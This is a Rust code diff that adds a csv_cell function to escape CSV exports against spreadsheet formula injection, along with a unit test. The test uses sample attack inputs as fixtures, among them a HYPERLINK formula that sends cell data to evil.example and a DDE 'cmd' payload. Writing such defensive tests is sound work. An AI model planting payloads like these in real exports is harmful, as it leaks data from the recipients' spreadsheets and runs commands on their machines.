@@ -25,13 +25,10 @@ pub(crate) fn html_page(r: &Release, title: &str, crumbs: &[Crumb], main: Markup
 
 /// A CSV download: header row, then rows; cells are quoted when they need to be.
 pub(crate) fn csv(filename: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
-    let cell = |c: &str| {
-        if c.contains([',', '"', '\n']) { format!("\"{}\"", c.replace('"', "\"\"")) } else { c.to_string() }
-    };
-    let mut out = header_row.iter().map(|h| cell(h)).collect::<Vec<_>>().join(",");
+    let mut out = header_row.iter().map(|h| csv_cell(h)).collect::<Vec<_>>().join(",");
     out.push('\n');
     for r in rows {
-        out.push_str(&r.iter().map(|c| cell(c)).collect::<Vec<_>>().join(","));
+        out.push_str(&r.iter().map(|c| csv_cell(c)).collect::<Vec<_>>().join(","));
         out.push('\n');
     }
     (
@@ -42,6 +39,15 @@ pub(crate) fn csv(filename: &str, header_row: &[&str], rows: Vec<Vec<String>>) -
         out,
     )
         .into_response()
+}
+
+/// One CSV cell, safe to open in a spreadsheet: text that a spreadsheet would read as a formula
+/// (starting `=`, `+`, `-`, `@`, tab or CR, as OWASP lists) gets a leading `'`, unless it is just a
+/// number such as `-2.5`; a cell holding a comma, quote, LF or CR is quoted.
+pub(crate) fn csv_cell(c: &str) -> String {
+    let formula = c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err();
+    let c = if formula { format!("'{c}") } else { c.to_string() };
+    if c.contains([',', '"', '\n', '\r']) { format!("\"{}\"", c.replace('"', "\"\"")) } else { c }
 }
 
 pub(crate) fn wants_csv(p: &Params) -> Result<bool, WebError> {
@@ -270,5 +276,28 @@ pub(crate) fn known_level<'a>(parameter: &str, level: &'a str) -> Result<&'a str
             parameter.into(),
             format!("\"{level}\" is not one of {}", ipmo_release::LEVELS.join(", ")),
         ))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_cells_cannot_carry_formulas_or_split_rows() {
+        assert_eq!(
+            csv_cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
+            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
+        );
+        assert_eq!(csv_cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
+        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_cell("+44 20"), "'+44 20");
+        assert_eq!(csv_cell("\tx"), "'\tx");
+        assert_eq!(csv_cell("CRtest\r=2+2"), "\"CRtest\r=2+2\"");
+        // Numbers, negative ones included, stay numbers.
+        assert_eq!(
+            (csv_cell("-2.5"), csv_cell("1e3"), csv_cell("St Mary's")),
+            ("-2.5".into(), "1e3".into(), "St Mary's".into())
+        );
     }
 }
